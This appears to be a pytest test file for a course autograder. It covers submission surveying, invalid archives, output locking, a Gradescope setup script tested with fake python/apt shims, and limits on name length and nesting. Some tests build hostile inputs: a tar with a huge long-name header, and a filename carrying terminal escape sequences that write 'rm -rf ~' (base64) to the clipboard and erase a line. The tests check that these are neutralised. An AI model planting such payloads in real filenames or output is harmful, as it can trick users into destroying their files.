    def __call__(self) -> str | None:
        return self._look()

    def close(self) -> None:
        """Nothing was opened."""


@pytest.mark.parametrize(
    ("status", "message", "stall", "starved"),
    [
        ("failed", "AssertionError: {limit}the call did not finish within 15 s", 0.9, True),
        ("failed", "Failed: {limit}the command's child never got ready", None, True),
        ("failed", "Failed: " + TEST_TIMEOUT % 60, 0.9, True),
        ("failed", "AssertionError: {limit}glob took 3 s", 0.1, False),  # nothing contended
        ("failed", "AssertionError: expected 3 lines, got 2", 0.9, False),  # not a time limit
        ("passed", "{limit}", 0.9, False),
    ],
)
def test_a_failure_decided_by_wall_clock_time_under_contention_may_be_starvation(
    status: TestStatus, message: str, stall: float | None, starved: bool
) -> None:
    limit = over_time_limit_prefix(LAB)
    test = TestResult(FIRST_READ_TEST, "8.1", False, status, message.format(limit=limit), 0, 1)
    result = SubmissionResult("ann", "graded", "", "bwrap", tests=[test])
    assert _starvation.maybe_starved(result, stall) is starved, (
        "a test failed by its own bound on wall-clock time (a helper's deadline, a grace that "
        "must end in time) can fail a right solution on a starved CPU, as a timeout can: "
        "graded again alone, unless nothing contended the CPUs"
    )


@pytest.mark.slow
def test_bad_submissions_are_recorded_and_the_run_finishes(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    subs, out = tmp_path / "subs", tmp_path / "out"
    student(subs, "ok")
    student(subs, "collide")
    with zipfile.ZipFile(subs / "collide.zip", "w") as bundle:
        bundle.writestr(READ, b"# behaves: ok\n")
    (subs / "mallory.tar.gz").write_bytes(long_header_tar_gz(tarfile.GNUTYPE_LONGNAME, 1 << 30))
    (subs / "gone").symlink_to(tmp_path / "nowhere")
    sparse(student(subs, "huge") / "dataset.bin")
    with tarfile.open(subs / "dot.tar.gz", "w:gz") as bundle:
        bundle.add(student(tmp_path / "work", "dot"), arcname=".")
    leftover = out / "submissions" / ".staging-from-a-killed-run"
    leftover.mkdir(parents=True)
    grade_submissions(subs, out, GradeOptions(jobs=2))
    book = statuses(out)
    invalid = {"collide", "mallory"}  # the rest is graded, the huge data file notwithstanding
    assert {name for name, (status, _) in book.items() if status == "invalid"} == invalid
    assert {name for name, (status, _) in book.items() if status == "graded"} == {
        "dot", "huge", "ok"
    }  # fmt: skip
    assert "2 submissions for one student" in book["collide"][1]
    assert "name header" in book["mallory"][1]
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "Not graded" in report and "broken symbolic link" in report
    assert sorted(p.name for p in (out / "submissions").iterdir()) == sorted(book)


@pytest.mark.slow
def test_grading_late_submissions_into_the_same_out_keeps_the_class(
    tmp_path: Path, sandbox: FakeSandbox
) -> None:
    out = tmp_path / "out"
    for name in ("ann", "ben"):
        student(tmp_path / "on-time", name)
    grade_submissions(tmp_path / "on-time", out, GradeOptions(jobs=2))
    student(tmp_path / "late", "cy")
    results = grade_submissions(tmp_path / "late", out, GradeOptions(jobs=2))
    assert sorted(r.student for r in results) == ["ann", "ben", "cy"]
    assert sorted(statuses(out)) == ["ann", "ben", "cy"]
    report = (out / "report.html").read_text(encoding="utf-8")
    assert all(f"id='{name}'" in report for name in ("ann", "ben", "cy"))
    assert sandbox.calls == {"ok": 3}


def test_a_second_grader_on_the_same_out_refuses_and_touches_nothing(tmp_path: Path) -> None:
    student(tmp_path / "subs", "ann")
    out = tmp_path / "out"
    staging = out / "submissions" / ".staging-of-the-first-grader"
    staging.mkdir(parents=True)
    with _grade._holding(out):
        with pytest.raises(_grade.OutputBusy, match="in use by another grader"):
            grade_submissions(tmp_path / "subs", out, GradeOptions(jobs=1))
        command = [sys.executable, "-m", "grader", "grade", str(tmp_path / "subs"),
                   "--out", str(out)]  # fmt: skip
        cli = subprocess.run(
            command, cwd=COURSE_ROOT, capture_output=True, text=True, check=False, timeout=120
        )
    message = " ".join(cli.stderr.split())
    assert cli.returncode == 2 and "in use by another grader" in message
    assert f"pid {os.getpid()}" in message, "the message names the grader holding OUT"
    assert staging.is_dir(), "the first grader's staging is left alone"
    assert not (out / "gradebook.csv").exists()


# The Gradescope image -----------------------------------------------------------------------

FAKE_PYTHON = """#!/bin/sh
# Stands for an interpreter that reports Python {version}.
case "$1" in
  -c) exec {real} -c 'import sys; sys.version_info = ({major}, {minor}, 0, "final", 0); \
exec(sys.argv[1])' "$2" ;;
  --version) echo "Python {major}.{minor}.0" ;;
  -m) echo "${{0##*/}} $*" >> "$LOG"
      /bin/mkdir -p "$3/bin"
      printf '#!/bin/sh\\necho "pip $*" >> "$LOG"\\n' > "$3/bin/pip"
      /bin/chmod +x "$3/bin/pip" ;;
esac
"""

FAKE_APT = """#!/bin/sh
echo "${0##*/} $*" >> "$LOG"
case "$*" in
  *"install -y python3.12 python3.12-venv"*)
    [ -n "$PPA_WORKS" ] && /bin/cp "$FAKE_312" "${0%/*}/python3.12" ;;
esac
exit 0
"""


def fake_python(path: Path, major: int, minor: int) -> Path:
    path.write_text(
        FAKE_PYTHON.format(
            version=f"{major}.{minor}", real=sys.executable, major=major, minor=minor
        )
    )
    path.chmod(0o755)
    return path


def run_setup(tmp_path: Path, system_minor: int, ppa_works: bool = True) -> tuple[int, str, str]:
    bundle = _export.build_gradescope_bundle(tmp_path / "autograder.zip")
    root = tmp_path / "autograder"
    with zipfile.ZipFile(bundle) as archive:
        archive.extract("setup.sh", root)
    path = tmp_path / "bin"  # the only directory on PATH: no interpreter of this machine
    path.mkdir()
    fake_python(path / "python3", 3, system_minor)
    fake_312 = fake_python(tmp_path / "python3.12", 3, 12)
    for tool in ("apt-get", "add-apt-repository"):
        (path / tool).write_text(FAKE_APT)
        (path / tool).chmod(0o755)
    log = tmp_path / "log"
    log.touch()
    env = {
        "PATH": str(path),
        "LOG": str(log),
        "FAKE_312": str(fake_312),
        "PPA_WORKS": "1" if ppa_works else "",
        "GRADER_AUTOGRADER_ROOT": str(root),
    }
    bash = shutil.which("bash")
    assert bash
    run = subprocess.run(
        [bash, str(root / "setup.sh")], env=env, capture_output=True, text=True, timeout=60
    )
    return run.returncode, log.read_text(), run.stderr


def test_setup_sh_gets_python_3_12_where_python3_is_3_10(tmp_path: Path) -> None:
    code, log, stderr = run_setup(tmp_path, system_minor=10)
    assert code == 0, stderr
    root = tmp_path / "autograder"
    assert log.splitlines()[-5:] == [
        "add-apt-repository -y ppa:deadsnakes/ppa",
        "apt-get update",
        "apt-get install -y python3.12 python3.12-venv",
        f"python3.12 -m venv {root}/venv",
        f"pip install {root}/source",
    ]
    assert "bubblewrap" in log.splitlines()[1]


def test_setup_sh_uses_the_system_python_where_it_is_recent(tmp_path: Path) -> None:
    code, log, stderr = run_setup(tmp_path, system_minor=12)
    assert code == 0, stderr
    root = tmp_path / "autograder"
    assert "deadsnakes" not in log
    assert log.splitlines()[-2:] == [f"python3 -m venv {root}/venv", f"pip install {root}/source"]


def test_setup_sh_stops_with_a_clear_message_when_no_recent_python_comes(tmp_path: Path) -> None:
    code, log, stderr = run_setup(tmp_path, system_minor=10, ppa_works=False)
    assert code != 0
    assert "no Python >= 3.11" in stderr
    assert " -m venv" not in log, "no venv is built on an interpreter that is too old"


def test_a_name_too_long_for_the_output_is_not_graded_and_the_rest_are(tmp_path: Path) -> None:
    # The student's name names files of the output with a suffix: 250 bytes would pass the
    # file system's limit of 255 there and used to stop the whole run.
    root = tmp_path / "subs"
    root.mkdir()
    (root / ("A" * 250)).mkdir()
    (root / ("B" * 250 + ".zip")).write_bytes(b"PK")
    (root / ("é" * 100)).mkdir()  # 200 bytes: the longest name that is graded
    found, skipped = survey(root)
    assert [s.student for s in found] == ["é" * 100]
    assert {s.entry: s.reason for s in skipped} == {
        "A" * 250 + "/": "the name is longer than 200 bytes: shorten it",
        "B" * 250 + ".zip": "the name is longer than 200 bytes: shorten it",
    }


def test_names_and_reasons_reach_the_terminal_without_escape_sequences(tmp_path: Path) -> None:
    root = tmp_path / "subs"
    root.mkdir()
    clipboard = "\x1b]52;c;cm0gLXJmIH4=\x1b\\\x1b[1A\x1b[2K"  # write the clipboard, erase a line
    (root / f"evil{clipboard}.7z").write_bytes(b"7z")
    _, skipped = survey(root)
    assert [s.entry for s in skipped] == ["evil\\x1b]52;c;cm0gLXJmIH4=\\x1b\\\\x1b[1A\\x1b[2K.7z"]
    # What the CLI prints of a reason (a path inside a submission, say) goes the same way.
    assert printable(f"a link: src/{clipboard}\u202e") == (
        "a link: src/\\x1b]52;c;cm0gLXJmIH4=\\x1b\\\\x1b[1A\\x1b[2K\\u202e"
    )


def test_folders_nested_too_deep_are_a_reason_not_a_crash(tmp_path: Path) -> None:
    # os.walk recurses: about 1000 levels used to end in RecursionError, graded as `error`
    # and, once a result was stored, stopping the next run before it graded anyone. Past
    # 100 levels is refused with a reason.
    root = tmp_path / "subs"
    practice(root / "deep")
    folder = root / "deep" / "notes"
    folder.mkdir()
    (folder / "/".join(["d"] * 150)).mkdir(parents=True)  # deeper than 100 is refused
    (submission,), _ = survey(root)
    with pytest.raises(InvalidSubmission, match="nested more than 100 deep"):
        modules_of(submission, tmp_path)
    with pytest.raises(InvalidSubmission, match="nested more than 100 deep"):
        submission.digest()
